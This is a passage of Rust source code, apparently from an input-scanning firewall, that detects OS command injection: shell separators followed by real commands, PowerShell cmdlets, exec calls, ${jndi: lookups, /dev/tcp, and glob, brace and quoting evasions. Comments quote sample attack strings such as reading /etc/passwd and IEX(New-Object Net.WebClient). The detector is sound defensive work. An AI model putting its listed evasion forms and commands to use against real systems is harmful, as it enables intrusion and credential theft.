//! OS command injection: shell syntax that chains, substitutes or redirects commands, followed by
//! a command that exists.
//!
//! Ampersands and semicolons are ordinary punctuation in business text ("AT&T", "R&D", "Q&A",
//! "call before 9am; prefers email"), so a separator alone proves nothing. The rules want a
//! separator (or substitution) *followed by a real command* — and for commands that are also
//! English words (`cat`, `type`, `find`, `more`) an argument that looks like shell (`-x`, `/path`,
//! `$VAR`, a pipe). A deobfuscated view undoes the tricks shells ignore (`c'a't`, `c\at`,
//! `cat$u`, `${IFS}`).

use super::{CRITICAL, ERROR, Hits, Input, WARNING, is_word_byte};

#[derive(Clone, Copy, PartialEq, Eq)]
enum Strength {
    /// Never an English word or a name (`whoami`, `ifconfig`): enough after any separator.
    VeryStrong,
    /// Not an English word: its presence after a separator is enough.
    Strong,
    /// Also an English word: needs shell-looking arguments.
    Ambiguous,
}

fn command(word: &str) -> Option<Strength> {
    let w = word.strip_suffix(".exe").unwrap_or(word);
    if let Some(k) = command_exact(w) {
        return Some(k);
    }
    // Versioned interpreters and tools: python3.10, php7, gcc10.1, base64, c89.
    let base = w.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
    let versioned = matches!(
        base,
        "python"
            | "php"
            | "perl"
            | "ruby"
            | "lua"
            | "node"
            | "gcc"
            | "base"
            | "java"
            | "pip"
            | "tclsh"
            | "c"
            | "sqlite"
            | "bzip"
            | "7z"
    );
    (base.len() < w.len() && versioned).then_some(Strength::Strong)
}

fn command_exact(w: &str) -> Option<Strength> {
    use Strength::{Ambiguous, Strong, VeryStrong};
    Some(match w {
        "whoami" | "uname" | "ifconfig" | "ipconfig" | "netstat" | "nslookup" | "systeminfo"
        | "tasklist" | "taskkill" | "printenv" | "busybox" | "lastlog" | "xxd" | "mkfifo"
        | "certutil" | "mshta" | "bitsadmin" | "rundll32" | "regsvr32" | "wmic" | "useradd"
        | "usermod" | "killall" | "crontab" | "visudo" | "cscli" | "aptitude" | "apt-get"
        | "zstdcat" | "bsdtar" | "cpulimit" | "getent" | "sysctl" | "iptables" | "jrunscript"
        | "osascript" | "vssadmin" | "schtasks" | "nltest" | "dsquery" | "forfiles"
        | "powershell" | "pwsh" | "ncat" | "netcat" | "socat" | "wget" | "curl" | "nmap"
        | "tcpdump" | "tshark" | "pkexec" | "proxychains" | "hexdump" | "lsof" | "strace"
        | "ltrace" | "nohup" | "gunzip" | "zcat" | "bzcat" | "xzcat" | "unxz" | "dmesg"
        | "journalctl" | "systemctl" | "chattr" | "setfacl" | "msiexec" | "cmstp" | "ansible"
        | "ansible-config" | "ansible-galaxy" | "ansible-console" | "ansible-doc"
        | "ansible-inventory" | "ansible-pull" | "ansible-vault" | "ansible-playbook" => VeryStrong,
        "nc" | "bash" | "sh" | "zsh" | "ksh" | "csh" | "tcsh" | "dash" | "cmd" | "regedit"
        | "rundll" | "regsvr" | "wscript" | "cscript" | "php" | "lua" | "telnet" | "tftp"
        | "chmod" | "chown" | "chgrp" | "rm" | "hostname" | "gcc" | "irb" | "sudo" | "awk"
        | "gawk" | "xargs" | "grep" | "egrep" | "htop" | "dpkg" | "ls" | "ps" | "pwd" | "env"
        | "tac" | "passwd" | "uptime" | "mknod" | "openssl" | "scp" | "ssh" | "sftp" | "rsync"
        | "nodejs" | "reg" | "net" | "ipconfig/all" | "id" | "cat" | "c89" | "c99" | "gdb"
        | "tclsh" | "doas" | "umount" | "fdisk" | "lsblk" | "sqlite" | "mysql" | "psql" | "pip"
        | "npm" | "unzip" | "gzip" | "bzip" | "xz" | "7z" | "traceroute" | "mtr" | "arp"
        | "lastb" | "renice" | "chroot" | "unshare" | "nsenter" | "setsid" | "stdbuf" | "od" => {
            Strong
        }
        "nice" | "host" | "route" | "watch" | "timeout" | "service" | "mount" | "expect"
        | "wish" | "finger" | "ip" | "ss" | "w" | "node" | "java" | "gem" | "zip" | "tar"
        | "dig" | "strings" | "ruby" | "perl" | "python" | "rpm" | "yum" | "jq" | "ld" | "echo"
        | "sleep" | "ping" | "kill" | "touch" | "cp" | "mv" | "ln" | "dd" | "su" | "nl" | "set"
        | "time" | "type" | "dir" | "at" | "find" | "which" | "whereis" | "locate" | "head"
        | "tail" | "more" | "less" | "fold" | "column" | "bridge" | "comm" | "perf" | "flock"
        | "date" | "who" | "last" | "top" | "free" | "file" | "print" | "start" | "call"
        | "copy" | "move" | "del" | "ren" | "rename" | "exit" | "make" | "open" | "test"
        | "sort" | "cut" | "join" | "wall" | "man" | "read" | "write" | "eval" | "exec"
        | "source" | "export" | "alias" | "history" | "uniq" | "rev" | "tee" | "wc" | "diff"
        | "paste" | "split" | "shred" | "mkdir" | "rmdir" | "printf" | "chef" | "sed" | "vi"
        | "vim" | "nano" | "ed" | "ex" | "view" | "more.com" | "pushd" | "popd" | "cd" | "ver"
        | "vol" | "tree" | "attrib" | "xcopy" | "robocopy" => Ambiguous,
        _ => return None,
    })
}

/// Whether the words after a command name (up to six) include a flag (`-m`, `--version`) or a
/// file name with an extension that starts with a letter (`site.yml`, not `7.2`).
fn has_invocation_args(after: &[u8]) -> bool {
    after
        .split(|c| matches!(c, b' ' | b'\t'))
        .filter(|w| !w.is_empty())
        .take(6)
        .any(|w| {
            (w[0] == b'-'
                && w.len() > 1
                && w[1..]
                    .iter()
                    .all(|c| c.is_ascii_alphanumeric() || *c == b'-'))
                || w.iter().rposition(|c| *c == b'.').is_some_and(|d| {
                    let ext = &w[d + 1..];
                    d > 0
                        && (1..=4).contains(&ext.len())
                        && ext[0].is_ascii_alphabetic()
                        && ext.iter().all(u8::is_ascii_alphanumeric)
                })
        })
}

/// Arguments whose shape is the command's own: a duration for `sleep` and `timeout`, an address
/// or count for `ping`, a subcommand for `net` — each ending the command (the end of the value or
/// a separator), so "sleep 5 hours" and "ping me" stay prose.
fn typed_args(word: &str, after: &[u8]) -> bool {
    let mut k = 0;
    while k < after.len() && matches!(after[k], b' ' | b'\t') {
        k += 1;
    }
    if k == 0 {
        return false;
    }
    let rest = &after[k..];
    let end = rest
        .iter()
        .position(|c| {
            matches!(
                c,
                b' ' | b'\t' | b';' | b'|' | b'&' | b'\n' | b'\r' | b'`' | b')'
            )
        })
        .unwrap_or(rest.len());
    let token = &rest[..end];
    let tail = &rest[end..];
    let ends = tail
        .iter()
        .find(|c| !matches!(c, b' ' | b'\t'))
        .is_none_or(|c| matches!(c, b';' | b'|' | b'&' | b'\n' | b'\r' | b'`' | b')' | b'#'));
    let number = !token.is_empty() && token.iter().all(|c| c.is_ascii_digit() || *c == b'.')
        || (token.len() > 1
            && token[..token.len() - 1].iter().all(u8::is_ascii_digit)
            && matches!(token[token.len() - 1], b's' | b'm'));
    match word {
        "sleep" | "timeout" => number && ends,
        "ping" => number && (ends || token.iter().filter(|c| **c == b'.').count() == 3),
        "net" => matches!(
            std::str::from_utf8(token).unwrap_or(""),
            "user"
                | "localgroup"
                | "group"
                | "view"
                | "share"
                | "use"
                | "session"
                | "accounts"
                | "start"
                | "stop"
                | "config"
        ),
        _ => false,
    }
}

/// Whether the text after a command word looks like shell arguments.
/// With `strict` (a value that merely starts with a command name, like "Python; SQL"), list
/// punctuation after the word does not count.
fn shell_args(after: &[u8], strict: bool) -> bool {
    let mut k = 0;
    while k < after.len() && matches!(after[k], b' ' | b'\t') {
        k += 1;
    }
    let spaced = k > 0;
    let rest = &after[k..];
    // A Windows drive path (`dir c:\\`, `type c:/windows/win.ini`).
    let drive = spaced
        && rest.len() >= 3
        && rest[0].is_ascii_alphabetic()
        && rest[1] == b':'
        && matches!(rest[2], b'\\' | b'/');
    match after.get(k) {
        None => false,
        Some(c) => {
            drive
                || matches!(c, b'$' | b'<' | b'>' | b'`' | b'{' | b'\\' | b'%')
                || (!strict && matches!(c, b'|'))
                || (spaced && matches!(c, b'-' | b'/' | b'~' | b'.' | b'*' | b'\'' | b'"' | b'+'))
        }
    }
}

/// Whether the text after a command word ends the value or the command (`;env`, `| id`).
fn ends_command(after: &[u8]) -> bool {
    let rest = after
        .iter()
        .position(|c| !matches!(c, b' ' | b'\t' | b'\r' | b'\n'))
        .map(|p| &after[p..]);
    match rest {
        None => true,
        Some(r) => matches!(r[0], b';' | b'|' | b'&' | b'`' | b')' | b'\'' | b'"' | b'#'),
    }
}

/// Runs the command injection rules on one value.
pub(crate) fn detect(input: &Input<'_>, hits: &mut Hits) {
    let s = input.text;
    scan(s, input.profile, hits);
    // Quoting tricks only matter around shell syntax; "O'Brien" alone needs no second pass.
    let p = input.profile;
    let quoting = p.any_byte(b"\\'\"^$+");
    let shellish = p.any_byte(b";|&`$\n/\\<>{");
    let glued_quotes = super::has(s, "''") || super::has(s, "\"\"") || s.starts_with(['\'', '"']);
    if quoting && (shellish || glued_quotes) {
        let d = deobfuscate(s);
        if d != s {
            scan(&d, &super::Profile::new(&d), hits);
        }
    }
}

/// Undoes shell quoting tricks: `c'a't`, `c\at`, `w"h"oami`, `c^md`, `cat$u`, `c$@at`,
/// `${IFS}` / `$IFS` as a space; `+` (URL-encoded space in headers) as a space.
fn deobfuscate(s: &str) -> String {
    let s = s.replace("${ifs}", " ").replace("$ifs", " ");
    let b = s.as_bytes();
    let mut out = String::with_capacity(s.len());
    let mut i = 0;
    while i < b.len() {
        let c = b[i];
        match c {
            b'\\' | b'\'' | b'"' | b'^' => i += 1,
            b'+' => {
                out.push(' ');
                i += 1;
            }
            b'$' => {
                let next = b.get(i + 1).copied();
                let after = b.get(i + 2).copied();
                match next {
                    Some(b'@' | b'*' | b'?' | b'!' | b'#' | b'_' | b'-' | b'0'..=b'9') => i += 2,
                    // `cat$u /etc$u/passwd`: a one-letter (unset) variable glued to a word.
                    Some(n)
                        if n.is_ascii_lowercase()
                            && i > 0
                            && b[i - 1].is_ascii_alphanumeric()
                            && after.is_none_or(|a| !a.is_ascii_alphanumeric()) =>
                    {
                        i += 2;
                    }
                    _ => {
                        out.push('$');
                        i += 1;
                    }
                }
            }
            _ => {
                // Copy one UTF-8 character.
                let len = match c {
                    0xF0..=0xFF => 4,
                    0xE0..=0xEF => 3,
                    0xC0..=0xDF => 2,
                    _ => 1,
                };
                out.push_str(s.get(i..i + len).unwrap_or(""));
                i += len;
            }
        }
    }
    out
}

/// Whether the text before `i`, back to the previous line break, separator or the start, is
/// one token (no spaces): an argument the application passed on, not a line of prose.
fn single_token_before(b: &[u8], i: usize) -> bool {
    let line = &b[..i];
    let from = line
        .iter()
        .rposition(|c| matches!(c, b'\n' | b'\r' | b';' | b'|' | b'&'))
        .map_or(0, |p| p + 1);
    let token = &line[from..];
    // Nothing before it at all (`\nid\n`): the value itself starts a new command line.
    token.iter().all(u8::is_ascii_whitespace)
        || (token.len() <= 64 && !token.iter().any(|c| matches!(c, b' ' | b'\t')))
}

/// Separators that start a new command, with how strongly they imply a shell.
fn separator_at(b: &[u8], i: usize) -> Option<(usize, bool)> {
    // Returns (length, strong). `&` alone is weak: "AT&T".
    match b[i] {
        b';' | b'|' | b'`' => Some((if b.get(i + 1) == Some(&b'|') { 2 } else { 1 }, true)),
        b'&' if b.get(i + 1) == Some(&b'&') => Some((2, true)),
        b'&' => Some((1, false)),
        b'\n' | b'\r' => Some((1, false)),
        b'$' if b.get(i + 1) == Some(&b'(') => Some((2, true)),
        b'<' | b'>' if b.get(i + 1) == Some(&b'(') => Some((2, true)),
        _ => None,
    }
}

fn scan(s: &str, p: &super::Profile, hits: &mut Hits) {
    let g = &p.grams;
    let b = s.as_bytes();
    // Without a byte that can start a separator, the command at the start is the only one.
    let separators = p.any_byte(b";|`&\n\r$<>");
    // Commands after separators (and at the very start of the value).
    let mut i = 0;
    let mut first = true;
    while i <= b.len() {
        let (cmd_start, sep_strong, at_start) = if first {
            first = false;
            (0, false, true)
        } else {
            match (i < b.len()).then(|| separator_at(b, i)).flatten() {
                Some((len, strong)) => {
                    let start = i + len;
                    // A line break after a single token (`127.0.0.1\nid`, `a.txt\r\nsleep 5`) ends
                    // the application's argument as surely as `;`; after a sentence it is a new
                    // line of prose.
                    let strong =
                        strong || (matches!(b[i], b'\n' | b'\r') && single_token_before(b, i));
                    i = start;
                    (start, strong, false)
                }
                None => {
                    i += 1;
                    continue;
                }
            }
        };
        check_command(b, cmd_start, sep_strong, at_start, hits);
        if at_start {
            if !separators {
                break;
            }
            continue;
        }
    }

    // The constructs below each need a trigger byte; skip them all for plain text.
    let has = |c: u8| p.has_byte(c);
    if has(b'$') {
        shell_expansions(s, b, hits);
    }
    // `\ls`: a backslash in front of a command bypasses aliases.
    if let Some(rest) = s.strip_prefix('\\')
        && command(leading_word(rest.as_bytes())).is_some()
    {
        hits.add(1, "cmd.command_line", CRITICAL);
    }
    // Shellshock function definition.
    if has(b'(')
        && let Some(p) = super::find_from(s, "()", 0)
        && s[p + 2..].trim_start().starts_with('{')
    {
        hits.add(1, "cmd.shellshock", CRITICAL);
    }
    if has(b'<') || has(b'>') {
        // Here-strings.
        if let Some(p) = super::find_from(s, "<<<", 0)
            && p > 0
        {
            hits.add(1, "cmd.here_string", CRITICAL);
        }
        // Process substitution `<(cmd)` / `>(cmd)` at the start of a value.
        if (s.starts_with("<(") || s.starts_with(">(")) && s.contains(')') {
            hits.add(1, "cmd.substitution", CRITICAL);
        }
    }
    if g.has(s, "bin/") {
        binary_paths(s, b, hits);
    }
    if g.has(s, "/dev/") && (g.has(s, "/dev/tcp/") || g.has(s, "/dev/udp/")) {
        hits.add(1, "cmd.dev_tcp", CRITICAL);
    }
    if p.any_byte(b"?*[") {
        globbed_path(b, hits);
    }
    if has(b'{') {
        brace_expansion(b, hits);
    }
    if has(b'%') || g.has(s, "cmd") || g.has(s, "powershell") || g.has(s, "if ") {
        windows(s, hits);
    }
    if has(b'\n') {
        mail_protocol(s, hits);
    }
    if has(b'(') {
        exec_functions(s, b, hits);
    }
    if has(b'-') {
        powershell_cmdlets(b, hits);
    }
    // SQLite's shell runs `.shell CMD` / `.system CMD` when a value reaches the `sqlite3` command
    // line as input: a dot command at the start of the value, or of a line, with a command after it.
    if has(b'.') {
        for line in s.split(['\n', ';']) {
            let l = line.trim_start();
            if let Some(rest) = l
                .strip_prefix(".shell ")
                .or_else(|| l.strip_prefix(".system "))
                && !rest.trim().is_empty()
            {
                hits.add(1, "cmd.sqlite_shell", CRITICAL);
                break;
            }
        }
    }
    // Server-side includes: `<!--#exec cmd="id"-->`, `<!--#include virtual="/etc/passwd"-->`.
    if g.has(s, "<!--#")
        && ["exec", "include", "echo", "config", "fsize", "printenv"]
            .iter()
            .any(|d| s.contains(&format!("<!--#{d}")))
    {
        hits.add(1, "cmd.server_side_include", CRITICAL);
    }
}

/// PowerShell cmdlets that run code, fetch payloads, read files or disable defences, by verb
/// and noun. Verb-Noun is also English hyphenation ("get-together"), so only these pairs count.
const CMDLETS: &[(&str, &[&str])] = &[
    (
        "add",
        &["content", "localgroupmember", "mppreference", "type"],
    ),
    ("convertfrom", &["securestring"]),
    ("convertto", &["securestring"]),
    ("copy", &["item"]),
    (
        "get",
        &[
            "acl",
            "childitem",
            "ciminstance",
            "content",
            "credential",
            "itemproperty",
            "localuser",
            "process",
            "wmiobject",
        ],
    ),
    ("import", &["module"]),
    (
        "invoke",
        &[
            "command",
            "expression",
            "item",
            "restmethod",
            "webrequest",
            "wmimethod",
        ],
    ),
    ("new", &["item", "localuser", "object", "service"]),
    ("out", &["file"]),
    ("register", &["scheduledtask"]),
    ("remove", &["item", "mppreference"]),
    (
        "set",
        &["content", "executionpolicy", "itemproperty", "mppreference"],
    ),
    ("start", &["bitstransfer", "job", "process"]),
    ("stop", &["process", "service"]),
];

/// A PowerShell cmdlet from [`CMDLETS`] as a whole word: `IEX(New-Object Net.WebClient)`,
/// `Start-Process calc.exe`, `Get-ChildItem C:\\`.
fn powershell_cmdlets(b: &[u8], hits: &mut Hits) {
    let word = |c: &u8| c.is_ascii_alphanumeric() || *c == b'_';
    for (p, _) in b.iter().enumerate().filter(|(_, c)| **c == b'-') {
        let verb_len = b[..p].iter().rev().take_while(|c| word(c)).count();
        let noun_len = b[p + 1..].iter().take_while(|c| word(c)).count();
        if verb_len == 0 || noun_len == 0 {
            continue;
        }
        let verb = &b[p - verb_len..p];
        let noun = &b[p + 1..p + 1 + noun_len];
        let before_ok = p - verb_len == 0 || !matches!(b[p - verb_len - 1], b'-' | b'.' | b'/');
        let after_ok = !matches!(b.get(p + 1 + noun_len), Some(b'-'));
        if before_ok
            && after_ok
            && CMDLETS.iter().any(|(v, nouns)| {
                v.as_bytes() == verb && nouns.iter().any(|n| n.as_bytes() == noun)
            })
        {
            hits.add(1, "cmd.powershell", CRITICAL);
            return;
        }
    }
}

/// Calls that hand a string to a shell from the language around it: PHP's `system('id')`,
/// `shell_exec(`, `passthru(`, Python's `os.system(`/`os.popen(`, Ruby's `%x(` and Java's
/// `Runtime.getRuntime().exec(` — with a string or a variable as the argument.
fn exec_functions(s: &str, b: &[u8], hits: &mut Hits) {
    for f in [
        "system(",
        "shell_exec(",
        "passthru(",
        "popen(",
        "proc_open(",
        "pcntl_exec(",
        "exec(",
        "os.system(",
        "subprocess.",
        "getruntime().exec(",
        "child_process",
    ] {
        let mut from = 0;
        while let Some(p) = super::find_from(s, f, from) {
            from = p + f.len();
            // A whole word (`ecosystem(` is not `system(`), then a quoted or variable argument.
            let word_start = p == 0 || !(b[p - 1].is_ascii_alphanumeric() || b[p - 1] == b'_');
            let arg = b[p + f.len()..]
                .iter()
                .find(|c| !c.is_ascii_whitespace())
                .is_some_and(|c| matches!(c, b'\'' | b'"' | b'`' | b'$'));
            if word_start && (arg || f.ends_with('.') || f == "child_process") {
                hits.add(1, "cmd.exec_function", CRITICAL);
                return;
            }
        }
    }
}

/// `$(cmd)`, `${…}` (including Log4Shell-style lookups), `$SHELL`, `$((…))`, `$[…]`.
fn shell_expansions(s: &str, b: &[u8], hits: &mut Hits) {
    if let Some(p) = super::find_from(s, "$(", 0) {
        let inner = &b[p + 2..];
        let word = leading_word(inner);
        if command(word).is_some() || inner.first() == Some(&b'/') {
            hits.add(1, "cmd.substitution", CRITICAL);
        } else if inner.contains(&b')') {
            hits.add(2, "cmd.substitution", CRITICAL);
        }
    }
    if super::has(s, "${") {
        if [
            "${jndi:", "${env:", "${lower:", "${upper:", "${::-", "${:", "${sys:", "${java:",
            "${date:",
        ]
        .iter()
        .any(|p| s.contains(p))
        {
            hits.add(1, "cmd.expression_injection", CRITICAL);
        } else if let Some(p) = super::find_from(s, "${", 0) {
            let inner = &b[p + 2..];
            let closes = inner.iter().take(64).any(|&c| c == b'}');
            let word = leading_word(inner);
            if closes
                && (command(word).is_some()
                    || matches!(word, "path" | "home" | "shell" | "ifs" | "pwd" | "user"))
            {
                hits.add(1, "cmd.variable_expansion", CRITICAL);
            } else if closes
                && inner
                    .iter()
                    .take_while(|&&c| c != b'}')
                    .any(|&c| matches!(c, b'#' | b'%' | b':' | b'/' | b'{'))
            {
                // `${x#{}}`, `${path:0:1}`: parameter-expansion operators.
                hits.add(1, "cmd.variable_expansion", CRITICAL);
            } else if closes {
                hits.add(2, "cmd.variable_expansion", CRITICAL);
            }
        }
    }
    if super::has(s, "$shell") || super::has(s, "$path") || super::has(s, "$home") {
        hits.add(2, "cmd.variable_expansion", ERROR);
    }
    // Bash arithmetic expansion: `$((…))`, `$[…]`.
    if super::has(s, "$((") || super::has(s, "$[") {
        hits.add(1, "cmd.arithmetic_expansion", CRITICAL);
    }
}

/// `/bin/sh`, `/usr/bin/perl`, `bin/ansible`.
fn binary_paths(s: &str, b: &[u8], hits: &mut Hits) {
    // Interpreter and system binary paths.
    for dir in [
        "/bin/",
        "/usr/bin/",
        "/sbin/",
        "/usr/sbin/",
        "/usr/local/bin/",
        "/usr/local/sbin/",
    ] {
        if let Some(p) = super::find_from(s, dir, 0) {
            let word = leading_word(&b[p + dir.len()..]);
            if !word.is_empty() {
                hits.add(1, "cmd.binary_path", CRITICAL);
            }
        }
    }
    if let Some(p) = super::find_from(s, "bin/", 0)
        && command(leading_word(&b[p + 4..])) == Some(Strength::Strong)
    {
        hits.add(2, "cmd.binary_path", CRITICAL);
    }
}

/// The command word at `b[0..]` (letters, digits, `_`, `-`, `.`), possibly after a path prefix.
fn leading_word(b: &[u8]) -> &str {
    let end = b
        .iter()
        .position(|&c| !(c.is_ascii_alphanumeric() || matches!(c, b'_' | b'-' | b'.')))
        .unwrap_or(b.len());
    std::str::from_utf8(&b[..end]).unwrap_or("")
}

fn check_command(b: &[u8], mut i: usize, sep_strong: bool, at_start: bool, hits: &mut Hits) {
    while i < b.len() && matches!(b[i], b' ' | b'\t' | b'\r' | b'\n' | b'(' | b'{' | b'!') {
        i += 1;
    }
    // A leading path: /bin/cat, /usr/bin/env, ./run, c:\windows\system32\cmd
    let mut path = false;
    let mut j = i;
    while j < b.len()
        && !matches!(
            b[j],
            b' ' | b'\t' | b';' | b'|' | b'&' | b'`' | b'$' | b'<' | b'>' | b')' | b'\'' | b'"'
        )
    {
        j += 1;
    }
    let token = &b[i..j];
    // Only filesystem paths count (`/usr/bin/id`, `./x`, `~/x`), not URLs (`https://at&t…`).
    let fs_path = matches!(token.first(), Some(b'/' | b'.' | b'~'))
        && !token.windows(2).any(|w| w == b"//")
        && !token.contains(&b':');
    let word_start = match token.iter().rposition(|&c| c == b'/') {
        Some(p) if fs_path && p + 1 < token.len() => {
            path = true;
            i + p + 1
        }
        _ => i,
    };
    let word = leading_word(&b[word_start..]);
    if word.is_empty() {
        return;
    }
    let Some(strength) = command(word) else {
        return;
    };
    let after = &b[word_start + word.len()..];
    // "python3" and "cmd.exe" are the same word as far as the next character goes.
    let glued = after.first().is_some_and(|&c| is_word_byte(c));
    if glued {
        return;
    }
    // Wrappers that run their argument as a command: `time sh -c …`, `nohup id`.
    if matches!(
        word,
        "time"
            | "strace"
            | "ltrace"
            | "nohup"
            | "nice"
            | "timeout"
            | "env"
            | "sudo"
            | "doas"
            | "exec"
            | "xargs"
            | "busybox"
            | "command"
            | "builtin"
            | "stdbuf"
            | "setsid"
            | "chroot"
            | "cpulimit"
            | "unbuffer"
    ) {
        let rest_start = word_start + word.len();
        let mut k = rest_start;
        while k < b.len() && matches!(b[k], b' ' | b'\t') {
            k += 1;
        }
        // Skip wrapper options (`timeout 5`, `nice -n 5`, `cpulimit -l 100 -f`).
        while k < b.len() && (b[k] == b'-' || b[k].is_ascii_digit()) {
            while k < b.len() && !matches!(b[k], b' ' | b'\t') {
                k += 1;
            }
            while k < b.len() && matches!(b[k], b' ' | b'\t') {
                k += 1;
            }
        }
        let inner = leading_word(&b[k..]);
        if k > rest_start
            && matches!(
                command(inner),
                Some(Strength::VeryStrong | Strength::Strong)
            )
            && !b.get(k + inner.len()).is_some_and(|&c| is_word_byte(c))
        {
            hits.add(1, "cmd.command_line", CRITICAL);
            return;
        }
    }
    let args = shell_args(after, at_start) || typed_args(word, after);
    let ends = ends_command(after);
    // `cd /;cd etc;column passwd`: a command whose argument is a credentials file.
    let arg_word = {
        let mut k = 0;
        while k < after.len() && matches!(after[k], b' ' | b'\t') {
            k += 1;
        }
        if k > 0 { leading_word(&after[k..]) } else { "" }
    };
    if matches!(
        arg_word,
        "passwd" | "shadow" | "master.passwd" | "id_rsa" | "sudoers"
    ) {
        hits.add(1, "cmd.command_line", CRITICAL);
        return;
    }
    if strength == Strength::VeryStrong {
        // Distinctive commands: anything that looks like use, anywhere.
        // At the start of a value, `curl/8.5` (a user agent) is not a command line; `whoami;`
        // and `curl -s x` are.
        let first = after.iter().position(|c| !matches!(c, b' ' | b'\t'));
        let chained = first.is_some_and(|p| match after[p] {
            b';' | b'|' | b'`' => true,
            // `x & y` is "Curl & Co" too: the `&` chains only when a command follows.
            _ => {
                let rest = &after[p..];
                let k = rest
                    .iter()
                    .position(|c| !matches!(c, b'&' | b' ' | b'\t'))
                    .unwrap_or(rest.len());
                rest[0] == b'&' && (k == rest.len() || command(leading_word(&rest[k..])).is_some())
            }
        });
        // Words after the name: an invocation when the tool's name is hyphenated
        // (`ansible-playbook site`) or an argument is a flag or a file (`ansible all -m ping`,
        // `chef-run all recipe.rb`); "Netcat AB" and "PowerShell Developer" are names, and a
        // plain word (`cscli alerts list`) counts only at higher paranoia.
        let continues = first.is_some_and(|p| p > 0);
        let invocation = continues && (word.contains('-') || has_invocation_args(after));
        if !at_start || shell_args(after, false) || path || chained || invocation {
            hits.add(1, "cmd.chained_command", CRITICAL);
        } else if continues {
            hits.add(2, "cmd.chained_command", CRITICAL);
        } else if ends {
            hits.add(2, "cmd.command_line", CRITICAL);
        }
        return;
    }
    if at_start {
        // No separator: the whole value is a command line (`cat /etc/passwd`, `/bin/ab`).
        match strength {
            Strength::Strong if args || path => hits.add(1, "cmd.command_line", CRITICAL),
            Strength::Strong if ends => hits.add(3, "cmd.command_line", WARNING),
            Strength::Strong => {
                if after.iter().take(3).any(|c| *c == b' ') && word.len() > 3 {
                    hits.add(2, "cmd.command_line", ERROR);
                }
            }
            Strength::Ambiguous if path => hits.add(1, "cmd.command_line", CRITICAL),
            // `cd /;cd etc`: a command line that goes on to chain more commands.
            Strength::Ambiguous if args && b.iter().any(|&c| c == b';' || c == b'|') => {
                hits.add(1, "cmd.command_line", CRITICAL);
            }
            Strength::Ambiguous if args => hits.add(2, "cmd.command_line", CRITICAL),
            Strength::Ambiguous => {}
            Strength::VeryStrong => {}
        }
        return;
    }
    match strength {
        Strength::Strong if sep_strong && (args || ends || path) => {
            hits.add(1, "cmd.chained_command", CRITICAL);
        }
        Strength::Strong if args || path => hits.add(1, "cmd.chained_command", CRITICAL),
        Strength::Strong if sep_strong => hits.add(2, "cmd.chained_command", CRITICAL),
        Strength::Strong if ends => hits.add(2, "cmd.chained_command", ERROR),
        Strength::Ambiguous if args || path => {
            if sep_strong || path {
                hits.add(1, "cmd.chained_command", CRITICAL);
            } else {
                hits.add(2, "cmd.chained_command", CRITICAL);
            }
        }
        // `;who`, `| more`: plausible, but "Python; SQL; Java & Ruby" has the same shape.
        Strength::Ambiguous if sep_strong && ends => {
            hits.add(2, "cmd.chained_command", ERROR);
            hits.add(3, "cmd.chained_command", CRITICAL);
        }
        _ => {}
    }
}

/// Bash glob evasion of file names: `/e??/p?sswd`, `/???/??t`, `/et*/passwd`, `/etc/pa[s]swd`.
fn globbed_path(b: &[u8], hits: &mut Hits) {
    if !b.iter().any(|&c| matches!(c, b'?' | b'*' | b'[')) {
        return;
    }
    let seg_ok = |c: u8| {
        c.is_ascii_alphanumeric()
            || matches!(c, b'?' | b'*' | b'[' | b']' | b'!' | b'.' | b'-' | b'_')
    };
    let mut i = 0;
    while i < b.len() {
        if b[i] != b'/' {
            i += 1;
            continue;
        }
        // Walk consecutive /segment/segment…
        let mut j = i;
        let mut segments = 0;
        let mut globbed = false;
        while j < b.len() && b[j] == b'/' {
            let start = j + 1;
            let mut k = start;
            while k < b.len() && seg_ok(b[k]) {
                k += 1;
            }
            if k == start {
                break;
            }
            let seg = &b[start..k];
            if seg.iter().any(|&c| matches!(c, b'?' | b'*' | b'['))
                && seg.iter().any(|&c| c.is_ascii_alphabetic() || c == b'?')
            {
                globbed = true;
            }
            segments += 1;
            j = k;
        }
        let ends_clean = j >= b.len()
            || matches!(
                b[j],
                b' ' | b'+' | b';' | b'|' | b'&' | b'\'' | b'"' | b'`' | b')' | b'<' | b'>'
            );
        if globbed && segments >= 2 && ends_clean {
            hits.add(1, "cmd.glob_path", CRITICAL);
            return;
        }
        i = j.max(i + 1);
    }
}

/// Brace expansion used to avoid spaces: `{cat,/etc/passwd}`, `{,echo,#test}`.
fn brace_expansion(b: &[u8], hits: &mut Hits) {
    let mut i = 0;
    while let Some(p) = b[i..].iter().position(|&c| c == b'{') {
        let at = i + p;
        let Some(close) = b[at..].iter().take(200).position(|&c| c == b'}') else {
            return;
        };
        let inner = &b[at + 1..at + close];
        let parts: Vec<&[u8]> = inner.split(|&c| c == b',').collect();
        if parts.len() >= 2 {
            let cmdish = parts.iter().any(|part| {
                let w = part.strip_prefix(b"$").unwrap_or(part);
                let w = w.strip_prefix(b"'").unwrap_or(w);
                let word = leading_word(w);
                command(word).is_some() || w.first() == Some(&b'/')
            });
            let no_quotes_kv = !inner.iter().any(|&c| c == b':' || c == b'"');
            if cmdish && no_quotes_kv {
                hits.add(1, "cmd.brace_expansion", CRITICAL);
                return;
            }
        }
        i = at + 1;
    }
}

/// Windows command interpreter constructs.
fn windows(s: &str, hits: &mut Hits) {
    for v in [
        "%comspec%",
        "%systemroot%",
        "%windir%",
        "%systemdrive%",
        "%programfiles%",
        "%temp%",
        "%appdata%",
    ] {
        if s.contains(v) {
            hits.add(1, "cmd.windows", CRITICAL);
        }
    }
    if let Some(p) = super::find_word(s, "cmd", 0) {
        let rest = s[p + 3..].trim_start_matches(".exe").trim_start();
        if rest.starts_with("/c") || rest.starts_with("/k") || rest.starts_with("/r") {
            hits.add(1, "cmd.windows", CRITICAL);
        }
    }
    if let Some(p) = super::find_word(s, "powershell", 0) {
        let rest = s[p + 10..].trim_start_matches(".exe").trim_start();
        if rest.starts_with('-') || rest.starts_with('/') || rest.starts_with('"') {
            hits.add(1, "cmd.windows", CRITICAL);
        }
    }
    batch_if(s, hits);
    // for [/d|/r x|/l|/f "opts"] %var in (…) do
    let mut from = 0;
    while let Some(p) = super::find_word(s, "for", from) {
        from = p + 3;
        let rest = &s[p + 3..];
        if let Some(pct) = rest.find('%')
            && rest[..pct].len() < 80
            && let Some(inp) = super::find_from(&rest[pct..], " in", 0)
            && rest[pct..pct + inp].trim_start_matches('%').chars().count() <= 12
            && !rest[pct..pct + inp].contains(' ')
            && rest[pct + inp + 3..].trim_start().starts_with('(')
            && rest[pct..].contains(')')
            && rest[pct..]
                .split(')')
                .skip(1)
